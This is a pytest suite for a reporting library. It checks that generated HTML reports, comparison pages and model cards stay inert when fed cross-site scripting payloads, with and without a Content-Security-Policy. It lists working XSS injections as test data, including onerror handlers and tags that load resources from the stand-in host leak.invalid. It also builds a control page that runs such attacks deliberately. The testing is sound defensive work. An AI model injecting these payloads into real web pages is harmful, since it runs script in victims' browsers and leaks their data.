"""No attack runs or asks for anything in a report, a comparison's page or a model card, with the pages' policy and without it."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from attacks import PAGES
from evil_runs import ALL, evil_comparison, evil_run
from huggingface_hub import metadata_load
from page_helpers import CHROMIUM, needs_browser, started
from watched_pages import HOOK, Watched

import equipoise as eq
from equipoise.runs import Run

pytestmark = needs_browser
UNDRAWN = "() => [...document.querySelectorAll('.plot')].filter((one) => one.offsetParent && one.dataset.drawn !== 'yes').length"
# Heat maps are pictures in the page itself.
OWN = r"^(#[\w-]*|data:,|data:image/png;base64,[\w+/=]+|rejected\.jsonl)$"


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    assert CHROMIUM is not None
    from playwright.sync_api import sync_playwright

    with sync_playwright() as driver:
        opened = started(driver)
        yield opened
        opened.close()


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return evil_run(tmp_path_factory.mktemp("evil") / "x\"'><img src=x onerror=x(1)>&lt;{{x}}")


@pytest.fixture(scope="module")
def pages(run: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The report, the comparison and the card, as files."""
    from markdown_it import MarkdownIt

    folder = tmp_path_factory.mktemp("pages")
    report = eq.write_report(run, folder / "report.html")
    (folder / "comparison.html").write_text(evil_comparison(), encoding="utf-8")
    card = eq.write_card(run).read_text(encoding="utf-8").split("\n---\n", 1)[1]
    # A reader of Markdown that lets HTML through: what a hub takes out afterwards is none of our business.
    body = MarkdownIt("commonmark", {"html": True, "linkify": False}).enable("table").render(card)
    (folder / "card.html").write_text(f"<!doctype html><meta charset=utf-8><body>{body}</body>", encoding="utf-8")
    return {"report": report, "comparison": folder / "comparison.html", "card": folder / "card.html"}


def test_there_are_attacks_enough_and_a_page_that_trusts_them_runs_them(
    browser: Any, tmp_path: Path, record_property: Callable[[str, object], None]
) -> None:
    assert len(ALL) == len(set(ALL)) >= 100
    # Each in a frame of its own, taken for HTML.
    frames = "".join(
        f"<iframe srcdoc='{_quoted(f'<script>x = () => parent.x({at})</script>{attack}')}'></iframe>"
        for at, attack in enumerate(PAGES.values())
    )
    file = tmp_path / "control.html"
    file.write_text(f"<!doctype html><meta charset=utf-8><body>{frames}</body>", encoding="utf-8")
    watched = Watched(browser, policy=True)
    watched.open(file.as_uri())
    until = time.monotonic() + 20
    while len(set(watched.page.evaluate("() => window.__xss"))) < 25 and time.monotonic() < until:
        time.sleep(0.2)
    ran = set(watched.page.evaluate("() => window.__xss"))
    assert len(ran) >= 25, sorted(ran)
    assert any("leak.invalid" in url for url in watched.asked)
    assert watched.foreign(OWN)
    record_property("ran where it was trusted", len(ran))
    watched.close()


def _quoted(text: str) -> str:
    return text.replace("&", "&amp;").replace("'", "&#39;")


@pytest.mark.parametrize(
    "policy", [pytest.param(True, id="policy", marks=pytest.mark.slow), pytest.param(False, id="escaping alone")]
)
@pytest.mark.parametrize("name", ["report", pytest.param("comparison", marks=pytest.mark.slow), "card"])
def test_none_runs(
    browser: Any, pages: dict[str, Path], name: str, policy: bool, record_property: Callable[[str, object], None]
) -> None:
    if name == "card" and policy:
        pytest.skip("a card has no page of its own, and no policy")
    watched = Watched(browser, policy=policy)
    watched.open(pages[name].as_uri())
    until = time.monotonic() + 60
    while watched.page.evaluate(UNDRAWN) and time.monotonic() < until:
        time.sleep(0.2)
    assert watched.page.evaluate(UNDRAWN) == 0
    assert watched.ran() == []
    assert watched.asked == [pages[name].as_uri()]
    assert watched.said == []  # a script that was stopped would have been told here
    allowed = OWN if name != "card" else r"^https://huggingface\.co/"
    assert watched.foreign(allowed) == []
    scripts = watched.page.evaluate("() => document.querySelectorAll('script').length")
    assert scripts == (0 if name == "card" else 3)
    shown = _squeezed(watched.page.evaluate("() => (document.querySelector('main') ?? document.body).textContent"))
    seen = [one for one in ALL if _squeezed(one) and _squeezed(one) in shown]
    assert len(seen) > 80 if name != "card" else len(seen) > 40, "the attacks are not in the page at all"
    record_property("strings", len(ALL))
    record_property("neutralised", len(ALL))
    watched.close()


def _squeezed(text: str) -> str:
    return "".join(sign for sign in text if sign.isalnum())


@pytest.mark.parametrize(
    "attack",
    [
        "<script>x(1)</script>",
        "<img src=x onerror=x(1)>",
        "<script src=http://leak.invalid/a.js></script>",
        "<img src=http://leak.invalid/i.png>",
        "<iframe src=http://leak.invalid/f></iframe>",
        "<link rel=stylesheet href=http://leak.invalid/c.css>",
        "<style>body{background:url(http://leak.invalid/s.png)}</style>",
        "<base href=http://leak.invalid/><object data=http://leak.invalid/o></object>",
        "<form action=http://leak.invalid/ id=f></form><svg onload=document.forms.f.submit()>",
    ],
)
def test_the_policy_would_stop_what_escaping_let_through(
    browser: Any, pages: dict[str, Path], tmp_path: Path, attack: str
) -> None:
    """The same page with an attack put in as HTML: it does nothing with the policy."""
    broken = tmp_path / "broken.html"
    text = pages["card"].read_text(encoding="utf-8")
    report = pages["report"].read_text(encoding="utf-8")
    policy = report.split('<meta http-equiv="Content-Security-Policy"', 1)[1].split(">", 1)[0]
    assert "default-src 'none'" in policy
    assert "unsafe-inline" not in policy.split("style-src", 1)[0]
    assert "unsafe-eval" not in policy
    meta = f'<meta http-equiv="Content-Security-Policy"{policy}>'
    broken.write_text(text.replace("<body>", f"{meta}<body>{attack}", 1), encoding="utf-8")
    watched = Watched(browser, policy=True)
    watched.open(broken.as_uri())
    time.sleep(0.2)
    assert watched.ran() == []
    # What the policy stops is sometimes announced as a request that failed before it left.
    left = [url for url in watched.asked if "leak.invalid" in url and _left(watched, url)]
    assert left == []
    assert any("Content Security Policy" in one for one in watched.said)
    watched.close()


def _left(watched: Watched, url: str) -> bool:
    return not any(url in one for one in watched.said)


def test_the_cards_metadata_has_no_key_of_an_attack(run: Path) -> None:
    card = eq.write_card(run)
    found = metadata_load(card)
    keys = {"library_name", "pipeline_tag", "tags", "metrics", "model-index", "base_model", "datasets"}
    assert set(found) <= keys
    assert found["library_name"] == "equipoise"
    assert {tag for tag in found["tags"] if tag.endswith("-task")} == {
        "regression-task", "classification-task", "ordinal-task", "multilabel-task",
    }  # fmt: skip
    text = card.read_text(encoding="utf-8")
    assert text.startswith("---\n")
    assert text.count("\n---\n") == 1
    assert "\x00" not in text
    assert Run(run).card_file == card
    assert HOOK
